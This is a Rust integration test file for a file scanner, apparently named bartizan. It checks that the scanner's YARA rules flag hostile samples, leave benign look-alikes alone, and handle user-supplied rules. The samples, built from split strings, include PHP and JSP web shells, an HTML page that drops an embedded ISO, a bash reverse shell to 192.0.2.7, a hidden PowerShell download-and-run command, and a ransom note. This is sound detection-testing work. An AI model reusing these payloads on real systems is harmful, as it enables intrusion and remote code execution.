//! YARA rules in `check`: our own find what they are for and leave its look-alikes alone, those of the user are used, faults are named. A
//! build without the feature says so.

use std::fs;
use std::path::Path;
use std::process::{Command, Output};

use serde_json::Value;

fn check(dir: &Path, file: &str, more: &[&str]) -> Output {
    let mut command = Command::new(env!("CARGO_BIN_EXE_bartizan"));
    command.arg("--data-dir").arg(dir.join("data")).arg("check").arg(dir.join(file)).arg("--ndjson").args(more);
    command.output().expect("bartizan runs")
}

fn said(out: &Output) -> Value {
    let text = String::from_utf8_lossy(&out.stdout);
    serde_json::from_str(text.lines().next().unwrap_or_default())
        .unwrap_or_else(|e| panic!("{e}: {text} {}", String::from_utf8_lossy(&out.stderr)))
}

fn codes(said: &Value) -> Vec<&str> {
    said["reasons"].as_array().map(|all| all.iter().filter_map(|r| r["code"].as_str()).collect()).unwrap_or_default()
}

#[cfg(not(feature = "heavy-scan"))]
#[test]
fn yara_that_is_not_built_in_is_said() {
    let dir = tempfile::tempdir().expect("a folder");
    fs::write(dir.path().join("a.bin"), [0x7f, 1, 2, 3]).expect("written");
    fs::write(dir.path().join("r.yar"), "rule r { condition: true }").expect("written");
    let rules = dir.path().join("r.yar");
    let out = check(dir.path(), "a.bin", &["--rules", rules.to_str().expect("UTF-8")]);
    let said = said(&out);
    let not_checked = said["not_checked"].as_array().expect("a list");
    assert!(not_checked.iter().any(|what| what == "YARA: not built in"), "{said}");
    assert!(codes(&said).iter().all(|code| !code.starts_with("yara.")), "{said}");
    assert!(String::from_utf8_lossy(&out.stderr).contains("--features heavy-scan"), "the way to them is named");
}

#[cfg(feature = "heavy-scan")]
mod built_in {
    use super::*;

    /// Parts are joined here, so that this file is none of what the rules look for.
    fn samples() -> Vec<(&'static str, String, &'static str)> {
        let onion = "a".repeat(56);
        let carried = "TVqQAAMAAAAEAAAA".repeat(200);
        vec![
            ("shell.php", ["<?php @ev", "al(base64_decode($_PO", "ST['x'])); ?>"].concat(), "php_runs_what_it_is_sent"),
            (
                "shell.jsp",
                ["<% Runtime.get", "Runtime().ex", "ec(request.getPara", "meter(\"c\")); %>"].concat(),
                "jsp_runs_what_it_is_sent",
            ),
            (
                "invoice.html",
                format!(
                    "<html><script>var d=at{}ob('{carried}');var b=new Bl{}ob([d]);var a=document.createElement('a');\
                     a.href=URL.createObje{}ctURL(b);a.download='invoice.iso';a.cl{}ick();</script></html>",
                    "", "", "", ""
                ),
                "html_hands_out_a_file_it_carries",
            ),
            ("up.sh", ["#!/bin/sh\nbash -", "i >& /dev/t", "cp/192.0.2.7/4444 0>&1\n"].concat(), "script_opens_a_shell_to_outside"),
            (
                "go.ps1",
                ["powershell -w hid", "den -c \"IE", "X (New-Object Net.WebClient).Download", "String('http://192.0.2.7/a')\"\n"].concat(),
                "powershell_runs_what_it_fetches",
            ),
            (
                "README.txt",
                format!(
                    "All of your files have been encry{}pted. Only we have the decryption key. Do not try to decrypt them.\n\
                     Pay 2 bitcoin. Use the Tor Browser: http://{onion}.onion/\n",
                    ""
                ),
                "ransom_note",
            ),
        ]
    }

    fn look_alikes() -> Vec<(&'static str, String)> {
        vec![
            ("admin.php", "<?php $name = $_POST['name']; system('uptime'); echo eval_template($name); ?>".into()),
            ("admin.jsp", "<% String c = request.getParameter(\"c\"); Runtime.getRuntime().exec(\"uptime\"); %>".into()),
            (
                "export.html",
                "<script>const b = new Blob([rows.join('\\n')]); a.href = URL.createObjectURL(b); a.download = 'table.csv'; a.click();\
                 const k = atob('c2hvcnQ=');</script>"
                    .into(),
            ),
            ("install.sh", "#!/bin/bash -i\nexec 3<>/dev/null\nnc -z localhost 80 && echo up\n".into()),
            ("update.ps1", "Invoke-WebRequest https://example.org/tool.zip -OutFile tool.zip\nExpand-Archive tool.zip\n".into()),
            (
                "advice.txt",
                "If your files have been encrypted by ransomware: do not pay in bitcoin, keep the note, ask for help. The price doubles \
                 after three days in many cases; a decryption tool may exist."
                    .into(),
            ),
        ]
    }

    #[test]
    fn yara_rules_of_ours_find_what_they_are_for() {
        for (name, content, rule) in samples() {
            let dir = tempfile::tempdir().expect("a folder");
            fs::write(dir.path().join(name), content).expect("written");
            let said = said(&check(dir.path(), name, &[]));
            let told = said["reasons"].to_string();
            assert!(told.contains(rule), "{name}: {said}");
            assert!(["suspicious", "malicious"].contains(&said["verdict"].as_str().unwrap_or_default()), "{name}: {said}");
        }
    }

    #[test]
    fn yara_rules_of_ours_leave_look_alikes_alone() {
        for (name, content) in look_alikes() {
            let dir = tempfile::tempdir().expect("a folder");
            fs::write(dir.path().join(name), content).expect("written");
            let said = said(&check(dir.path(), name, &[]));
            assert!(codes(&said).iter().all(|code| !code.starts_with("yara.")), "{name}: {said}");
        }
    }

    #[test]
    fn yara_rules_of_the_user_decide_by_what_they_say_of_themselves() {
        for (meta, verdict) in [("severity = \"high\"", "malicious"), ("author = \"me\"", "suspicious"), ("severity = \"low\"", "unknown")]
        {
            let dir = tempfile::tempdir().expect("a folder");
            fs::write(dir.path().join("a.bin"), b"\x7fELF and a marker of mine").expect("written");
            let rule =
                format!("rule mine {{ meta: {meta} strings: $a = \"marker of mine\" condition: $a }}\nrule bad {{ condition: $no }}");
            fs::create_dir(dir.path().join("rules")).expect("a folder");
            fs::write(dir.path().join("rules/mine.yar"), rule).expect("written");
            let rules = dir.path().join("rules");
            let out = check(dir.path(), "a.bin", &["--rules", rules.to_str().expect("UTF-8")]);
            let said = said(&out);
            assert_eq!(said["verdict"], verdict, "{said}");
            assert!(said["reasons"].to_string().contains("mine"), "{said}");
            assert!(
                String::from_utf8_lossy(&out.stderr).contains("mine.yar:2"),
                "the fault is named: {}",
                String::from_utf8_lossy(&out.stderr)
            );
        }
    }
}
